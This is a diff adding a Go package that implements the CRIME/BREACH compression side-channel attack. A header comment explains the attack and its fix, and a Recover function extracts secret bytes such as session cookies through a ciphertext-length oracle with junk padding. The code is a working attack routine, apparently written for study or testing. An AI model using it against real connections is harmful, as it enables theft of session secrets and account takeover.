@@ -0,0 +1,80 @@
+// Package compressionoracle implements the compression side channel of
+// Kelsey (FSE 2002), known as CRIME against TLS and as BREACH against HTTP
+// response bodies.
+//
+// Compressing data before encrypting it makes the ciphertext length depend
+// on the plaintext: repeated strings compress better. When attacker input
+// is compressed along with a secret, such as a cookie in the same HTTP
+// request, the attacker sends sessionid= followed by a guess of the next
+// character of the secret, and the right guess extends the repetition of
+// the real sessionid= and makes the ciphertext shorter. The secret falls
+// one character at a time, in a few queries per candidate. A block cipher
+// rounds lengths to the block size, so the attacker also pads the input
+// with bytes that do not compress until a boundary tells the candidates
+// apart. The fix is to never compress secrets with attacker data, which is
+// why TLS and HTTP/2 dropped compression or restricted it.
+package compressionoracle
+
+import (
+	"bytes"
+	"errors"
+)
+
+// Oracle compresses then encrypts attacker input along with a secret, and
+// reveals the length of the ciphertext
+type Oracle interface {
+	Length(input []byte) int
+}
+
+// OracleFunc adapts a function to the Oracle interface
+type OracleFunc func(input []byte) int
+
+// Length calls f(input)
+func (f OracleFunc) Length(input []byte) int {
+	return f(input)
+}
+
+// Recover returns the n bytes of the secret that follow prefix in the data
+// compressed by the oracle, such as the value of a cookie after
+// "sessionid=". Each byte of the secret must be in alphabet.
+func Recover(o Oracle, prefix, alphabet []byte, n int) ([]byte, error) {
+	// padding bytes that are not in the alphabet, nor in the known part,
+	// so they do not compress with anything
+	var junk []byte
+	for b := 255; b >= 0; b-- {
+		if bytes.IndexByte(alphabet, byte(b)) < 0 && bytes.IndexByte(prefix, byte(b)) < 0 {
+			junk = append(junk, byte(b))
+		}
+	}
+	known := append([]byte{}, prefix...)
+	for len(known)-len(prefix) < n {
+		c, err := next(o, known, alphabet, junk)
+		if err != nil {
+			return known[len(prefix):], err
+		}
+		known = append(known, c)
+	}
+	return known[len(prefix):], nil
+}
+
+// next returns the character following known, the only candidate with the
+// shortest ciphertext once padded with enough junk
+func next(o Oracle, known, alphabet, junk []byte) (byte, error) {
+	input := make([]byte, 0, len(junk)+len(known)+1)
+	for pad := 0; pad <= len(junk); pad++ {
+		best, count, min := byte(0), 0, 0
+		for _, c := range alphabet {
+			input = append(append(append(input[:0], junk[:pad]...), known...), c)
+			switch l := o.Length(input); {
+			case count == 0 || l < min:
+				best, count, min = c, 1, l
+			case l == min:
+				count++
+			}
+		}
+		if count == 1 {
+			return best, nil
+		}
+	}
+	return 0, errors.New("compressionoracle: no candidate compresses better than the others")
+}